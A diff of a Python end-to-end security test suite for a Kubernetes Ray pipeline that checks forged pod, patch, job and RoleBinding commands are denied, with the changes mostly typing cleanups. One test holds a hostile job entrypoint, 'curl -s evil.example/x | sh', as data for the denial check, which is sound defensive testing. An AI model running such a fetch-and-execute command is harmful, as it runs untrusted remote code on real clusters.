@@ -22,7 +22,7 @@ import subprocess
 import uuid
 from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime
-from typing import Any
+from typing import Any, cast
 
 import pytest
 import pytest_asyncio
@@ -54,6 +54,7 @@ from tests.e2e.pipeline import (
 from tests.e2e.test_invariants import all_ready, create
 from tests.fixtures.processes import spawn_raybus
 from tests.helpers import eventually, stored_messages
+from tests.kubeobjects import meta, name_of
 from tests.security.denials import assert_denied
 
 pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="module")]
@@ -158,12 +159,12 @@ async def head_service_of(p: Pipeline, owner: str) -> tuple[str, str]:
             "rayclusters",
             label_selector=f"ray.io/originated-from-cr-name={owner}",
         )
-        for cluster in clusters["items"]:
+        for cluster in cast(dict[str, Any], clusters)["items"]:
             name = cluster["metadata"]["name"]
             services = await asyncio.to_thread(p.core().list_namespaced_service, NS)
             for service in services.items:
-                if (service.metadata.labels or {}).get("ray.io/cluster") == name:
-                    return name, service.metadata.name
+                if (meta(service).labels or {}).get("ray.io/cluster") == name:
+                    return name, name_of(service)
         return None
 
     result = await eventually(found, timeout=120, message=f"{owner} never had a cluster with a head Service")
@@ -316,7 +317,7 @@ async def denial_event(p: Pipeline, key: ReconcileKey, text: str) -> None:
             e.reason == "CommandDenied"
             and e.type == "Warning"
             and (e.involved_object.kind, e.involved_object.name) == (key.kind, key.name)
-            and text in e.message
+            and text in (e.message or "")
             for e in events.items
         )
 
@@ -343,7 +344,7 @@ def renamed(command: CreateObject, name: str, mutate: Any) -> CreateObject:
 async def pod_names(p: Pipeline, cluster: str, *, node_type: str = "") -> set[str]:
     selector = f"ray.io/cluster={cluster}" + (f",ray.io/node-type={node_type}" if node_type else "")
     pods = await asyncio.to_thread(p.core().list_namespaced_pod, NS, label_selector=selector)
-    return {pod.metadata.name for pod in pods.items if pod.metadata.deletion_timestamp is None}
+    return {name_of(pod) for pod in pods.items if meta(pod).deletion_timestamp is None}
 
 
 async def test_1_a_pod_with_another_image_is_not_created(pipe: Pipeline) -> None:
@@ -388,13 +389,14 @@ async def test_4_a_running_workers_image_is_not_patched(pipe: Pipeline) -> None:
     assert_denied(await forge(pipe, CLUSTER, patch), why)
     await denial_event(pipe, CLUSTER, why)
     pod = await asyncio.to_thread(pipe.core().read_namespaced_pod, workers[0], NS)
+    assert pod.spec is not None
     assert [c.image for c in pod.spec.containers] == ["rayproject/ray:2.46.0"]
 
 
 async def test_5_a_job_with_another_entrypoint_is_not_submitted(pipe: Pipeline) -> None:
     selector = "ray.io/cluster=rc,ray.io/node-type=head"
     services = await asyncio.to_thread(pipe.core().list_namespaced_service, NS, label_selector=selector)
-    head = services.items[0].metadata.name
+    head = name_of(services.items[0])
     dashboard = DashboardRef(namespace=NS, service=head, port=8265, cluster=CLUSTER.name)
     request = {"entrypoint": "curl -s evil.example/x | sh", "submission_id": "rj-evil"}
     why = "the job's request.entrypoint is 'curl -s evil.example/x | sh', not 'python main.py'"
@@ -421,9 +423,10 @@ async def test_6_a_serve_application_the_rayservice_does_not_name_is_not_deploye
 
 
 async def test_7_the_autoscaler_role_is_not_bound_to_another_service_account(pipe: Pipeline) -> None:
-    owner = await asyncio.to_thread(
+    found = await asyncio.to_thread(
         pipe.custom().get_namespaced_custom_object, "ray.io", "v1", NS, "rayclusters", AUTOSCALED.name
     )
+    owner = cast(dict[str, Any], found)
     binding = {
         "apiVersion": "rbac.authorization.k8s.io/v1",
         "kind": "RoleBinding",
@@ -454,7 +457,7 @@ async def test_7_the_autoscaler_role_is_not_bound_to_another_service_account(pip
 
 def _role_bindings(p: Pipeline) -> set[str]:
     found = client.RbacAuthorizationV1Api(p.api).list_namespaced_role_binding(NS)
-    return {b.metadata.name for b in found.items}
+    return {name_of(b) for b in found.items}
 
 
 async def last_pod_creates(p: Pipeline) -> tuple[bytes, CommandBatch]:
@@ -563,7 +566,8 @@ async def test_9_a_submitter_job_runs_the_rayjobs_image_and_entrypoint_only(pipe
     refused = [(r.verb, r.target, r.error) for r in legitimate_results if r.outcome == "denied"]
     assert not refused, refused  # no false refusal
     after = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
-    assert after.metadata.uid == created.metadata.uid
+    assert meta(after).uid == created.metadata.uid
+    assert after.spec is not None and after.spec.template.spec is not None
     assert [c.image for c in after.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
     assert after.spec.template.spec.service_account_name is None and not after.spec.template.spec.volumes
 
